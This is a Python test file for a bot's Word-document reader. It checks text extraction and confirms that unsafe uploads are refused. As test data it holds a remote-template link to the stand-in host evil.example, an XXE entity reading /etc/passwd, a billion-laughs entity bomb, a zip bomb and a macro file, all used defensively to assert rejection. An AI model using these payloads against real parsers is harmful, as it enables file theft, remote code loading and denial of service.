"""The text of an uploaded Word file, read in the limited child; and the messages about files that are refused."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls

from bot.printing.documents import DocumentProblem, Maker

W = nsdecls("w")


def read(data: bytes):
    with Maker(Path(__file__).parent) as maker:
        return maker.read(data)


def word(*paragraphs: str, change: Callable[[docx.document.Document], object] = lambda file: None) -> bytes:
    file = docx.Document()
    for text in paragraphs:
        file.add_paragraph(text)
    change(file)
    saved = io.BytesIO()
    file.save(saved)
    return saved.getvalue()


def repacked(data: bytes, **parts: bytes) -> bytes:
    """The file with parts added or replaced; `__` means a slash, `_dot_` a dot."""
    new = {name.replace("__", "/").replace("_dot_", "."): part for name, part in parts.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in old.namelist():
            if name not in new:
                archive.writestr(name, old.read(name))
        for name, part in new.items():
            archive.writestr(name, part)
    return out.getvalue()


def body(xml: str) -> Callable[[docx.document.Document], object]:
    return lambda file: file.element.body.insert(0, parse_xml(xml.replace("<w:p>", f"<w:p {W}>", 1)))


def texts(shown) -> list[str]:
    return [each["text"] for each in shown]


def test_words_come_with_their_styles_and_lists_wherever_word_has_put_them():
    def change(file: docx.document.Document) -> None:
        file.add_heading("Why now", 2)
        file.add_paragraph("one", style="List Bullet")
        file.sections[0].footer.paragraphs[0].text = "L-014, version 3 · draft"

    shown = read(word("Dear Director:", change=change))

    assert [(each["style"], each["listed"], each["text"]) for each in shown["body"]] == [
        ("", False, "Dear Director:"),
        ("Heading 2", False, "Why now"),
        ("List Bullet", True, "one"),
    ]
    assert texts(shown["edges"]) == ["L-014, version 3 · draft"]


@pytest.mark.parametrize(
    ("xml", "text"),
    [
        ("<w:p><w:r><w:t>one</w:t><w:br/><w:t>two</w:t><w:tab/><w:t>three</w:t></w:r></w:p>", "one two three"),
        ('<w:p><w:hyperlink w:anchor="x"><w:r><w:t>a link</w:t></w:r></w:hyperlink></w:p>', "a link"),
        ("<w:p><w:smartTag><w:r><w:t>Washington</w:t></w:r></w:smartTag></w:p>", "Washington"),
        ("<w:p><w:r><w:instrText>PAGE</w:instrText><w:t>7</w:t></w:r></w:p>", "7"),
        ("<w:p><w:r><w:t>anti</w:t><w:noBreakHyphen/><w:t>trafficking</w:t></w:r></w:p>", "anti-trafficking"),
    ],
)
def test_no_word_is_lost_to_how_word_has_written_it(xml, text):
    assert texts(read(word(change=body(xml)))["body"]) == [text]


def test_text_in_a_content_control_is_read():
    xml = f"<w:sdt {W}><w:sdtContent><w:p><w:r><w:t>inside</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    assert texts(read(word("after", change=lambda file: file.element.body.insert(0, parse_xml(xml))))["body"]) == [
        "inside",
        "after",
    ]


def test_a_table_is_mentioned_at_its_place():
    shown = read(word("before", change=lambda file: file.add_table(1, 1)))
    assert [each["holds"] for each in shown["body"]] == ["", "a table"]


def test_a_comment_is_reported_because_nobody_would_answer_it():
    shown = read(word(change=body('<w:p><w:r><w:t>We ask.</w:t><w:commentReference w:id="0"/></w:r></w:p>')))
    assert [(each["text"], each["holds"]) for each in shown["body"]] == [("We ask.", "a comment")]


@pytest.mark.parametrize("tag", ["ins", "del", "moveFrom", "moveTo"])
def test_tracked_changes_are_to_be_decided_first(tag):
    mark = f'<w:{tag} w:id="1" w:author="x"><w:r><w:t>new</w:t></w:r></w:{tag}>'
    with pytest.raises(DocumentProblem, match="it has tracked changes"):
        read(word(change=body(f"<w:p>{mark}</w:p>")))


NO_WORD = "it is not a readable Word file"
LINKED = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
XXE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LOL = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "' + b"ha" * 5_000 + b'"><!ENTITY b "' + b"&a;" * 5_000 + b'">]>'


def entity(head: bytes, name: str) -> bytes:
    document = zipfile.ZipFile(io.BytesIO(word("here"))).read("word/document.xml")
    return head + document.partition(b"?>")[2].replace(b">here<", f">&{name};<".encode())


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", NO_WORD),
        (b"%PDF-1.7", NO_WORD),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, NO_WORD),  # the older format, or one with a password
        (word("x")[:2_000], NO_WORD),
        (repacked(word("x"), word__document_dot_xml=b"<not xml"), NO_WORD),
        (repacked(word("x"), word__vbaProject_dot_bin=b"x"), "it has macros"),
        (repacked(word("x"), word__media__bomb=b"\0" * 21_000_000), "unpacks to more than 20 MB"),
        (repacked(word("x"), **{f"p{n}": b"" for n in range(2_001)}), "unpacks to more than 20 MB"),
        (repacked(word("x"), word___rels__settings_dot_xml_dot_rels=LINKED), "it fetches http://evil.example/t.dotm"),
        (word(*["x"] * 2_001), "more than 2,000 paragraphs"),
        (repacked(word("x"), word__document_dot_xml=entity(LOL, "b")), NO_WORD),
    ],
    ids=["nothing", "pdf", "doc", "cut", "xml", "macros", "bomb", "parts", "link", "long", "a billion laughs"],
)
def test_what_is_no_plain_word_file_is_refused_with_what_to_do(data, why):
    with pytest.raises(DocumentProblem, match=why):
        read(data)


def test_a_file_of_ours_is_never_read_through_an_entity():
    shown = read(repacked(word("x"), word__document_dot_xml=entity(XXE, "e")))
    assert "root:" not in str(shown)
